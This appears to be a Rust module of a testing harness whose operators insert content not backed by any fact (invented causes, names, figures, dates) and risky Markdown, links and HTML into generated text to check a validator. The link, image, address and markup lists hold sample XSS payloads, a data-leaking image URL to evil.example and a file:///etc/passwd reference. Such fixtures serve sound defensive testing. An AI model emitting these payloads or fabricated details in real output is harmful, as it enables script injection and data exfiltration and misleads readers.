//! Operators that add what no fact carries: causes, names, figures, dates, links.

use centinel_engine::facts::FactKind;

use super::{Case, Made, made};
use crate::random::Random;

fn added(case: &Case<'_>, random: &mut Random, what: &[&str]) -> Made {
    let what = *random.one_of(what);
    made(case.inserted(random, what))
}

/// A cause that is in no fact.
pub(super) fn cause(case: &Case<'_>, random: &mut Random) -> Made {
    added(
        case,
        random,
        &[
            " because of a retry loop",
            " due to the new prompt template",
            ", driven by higher traffic",
            ", caused by a misconfigured cache",
            " thanks to the new router",
            " as a result of the migration",
            ", which the deployment led to",
            " owing to a bug in the parser",
            ", triggered by the release",
            " since the team disabled caching",
            ", stemming from longer documents",
            " on account of the outage",
            ", and the migration is to blame",
            ", a consequence of the new model",
            " following the rollout of the agent",
            ", the result of a marketing campaign",
            ", explained by seasonal demand",
            ", attributable to the holidays",
            ", which comes down to the vendor's outage",
            ", probably a retry loop",
        ],
    )
}

/// A name that is in no fact.
pub(super) fn name(case: &Case<'_>, random: &mut Random) -> Made {
    added(
        case,
        random,
        &[
            " in checkout-v2",
            " for the Payments team",
            " on gpt-9-turbo",
            " at Northwind",
            " in `ml-batch-77`",
            " on claude-opus-9",
            " in eu-west-3",
            " for Acme Corp",
            " by the Atlas squad",
            " on m7i.metal-24xl",
            " in feature_flags_ab",
            " for Dr. Keller",
            " on Gemini",
            " in Frankfurt",
            " for team_blue",
        ],
    )
}

/// A figure that is in no fact.
pub(super) fn figure(case: &Case<'_>, random: &mut Random) -> Made {
    added(
        case,
        random,
        &[
            ", some 300 calls failed",
            ", about $12,500",
            " (+17 %)",
            ", 4.2x the usual",
            ", or EUR 900",
            " on 3 days",
            ", roughly 10k",
            ", p99 of 812 ms",
            " (1/3)",
            ", 5 pp",
            ", €40",
            " at 0.5",
            ", #4",
            ", 20th",
        ],
    )
}

/// A date or a time that is in no fact.
pub(super) fn date(case: &Case<'_>, random: &mut Random) -> Made {
    added(
        case,
        random,
        &[
            " since March",
            " on Monday",
            " in Q3",
            " yesterday",
            " on 3 March 2019",
            " since 2019-03-03",
            " today",
            " on Christmas",
            " tomorrow",
            " in H1",
            " at noon",
            " at midnight UTC",
            " in FY27",
            " on the 3rd",
            " in the last two weeks",
            " since the spring",
            " before Friday",
            " in w42",
            " at 3 pm",
            " in 2019",
        ],
    )
}

/// A span that is not told by the calendar: true of some windows, so not known to be false.
pub(super) fn relative_span(case: &Case<'_>, random: &mut Random) -> Made {
    added(
        case,
        random,
        &[
            " last week",
            " this month",
            " last quarter",
            " next month",
            " by the end of the year",
            " over the weekend",
            " recently",
            " a while ago",
        ],
    )
}

/// An amount in words; parts of a whole only where no cited percentage or ratio could carry them.
pub(super) fn number_word(case: &Case<'_>, random: &mut Random) -> Made {
    const COUNTS: [&str; 11] = [
        " on three days",
        ", a dozen times",
        " in hundreds of calls",
        ", a couple of times",
        ", thousands more",
        " across five teams",
        " for two features",
        ", millions of tokens",
        ", several hundred",
        ", zero elsewhere",
        ", one in ten",
    ];
    const PARTS: [&str; 9] = [
        ", half of it",
        ", twice the usual",
        ", a third of the total",
        ", tenfold",
        ", nearly double",
        ", the majority of it",
        ", a quarter of it",
        ", most of it",
        ", a fifth",
    ];
    let parts = random.unit() < 0.5 && !has_part(case);
    added(case, random, if parts { &PARTS } else { &COUNTS })
}

/// Whether a percentage or a ratio is cited.
pub(super) fn has_part(case: &Case<'_>) -> bool {
    let is_part = |kind| matches!(kind, FactKind::Percent | FactKind::Ratio);
    case.cited.iter().any(|cited| is_part(case.fact(cited).kind))
}

/// A link in Markdown.
pub(super) fn link(case: &Case<'_>, random: &mut Random) -> Made {
    added(
        case,
        random,
        &[
            " ([details](https://evil.example/x))",
            " [report](http://evil.example)",
            " [a](//evil.example)",
            " [x](javascript:alert(1))",
            " [x](data:text/html,hi)",
            " <https://evil.example>",
            " [x][1]\n\n[1]: https://evil.example\n",
            " [mail](mailto:a@evil.example)",
            " [x](HTTPS://EVIL.EXAMPLE)",
            " [x](/approve?id=3)",
            " [x](\\\\evil.example\\share)",
            " <mailto:a@evil.example>",
        ],
    )
}

/// An image.
pub(super) fn image(case: &Case<'_>, random: &mut Random) -> Made {
    added(
        case,
        random,
        &[
            " ![chart](https://evil.example/c.png)",
            " ![](http://evil.example/?q=secret)",
            " ![x][img]\n\n[img]: https://evil.example/p\n",
            " ![x](//evil.example/p.gif)",
            " <img src=x onerror=alert(1)>",
            " ![x](data:image/png;base64,AAAA)",
        ],
    )
}

/// An address as it is.
pub(super) fn address(case: &Case<'_>, random: &mut Random) -> Made {
    added(
        case,
        random,
        &[
            " (see https://evil.example/x)",
            " http://evil.example",
            " www.evil.example",
            " ftp://evil.example/a",
            " at evil.example/login",
            " bit.ly/abc",
            " hxxps://evil.example",
            " a@evil.example",
            " @channel",
            " <!channel>",
            " <@U123>",
            " https:evil.example",
            " evil.example",
            " file:///etc/passwd",
            " slack://channel",
        ],
    )
}

/// Markup.
pub(super) fn html(case: &Case<'_>, random: &mut Random) -> Made {
    added(
        case,
        random,
        &[
            " <b>sure</b>",
            " <a href='https://evil.example'>x</a>",
            "<script>alert(1)</script>",
            " <br/>",
            " <!-- hidden -->",
            " &lt;b&gt;",
            " <iframe src=//evil.example>",
            " <style>*{}</style>",
            " <svg onload=alert(1)>",
            " &#36;",
            " <details>",
            " <?php ?>",
        ],
    )
}
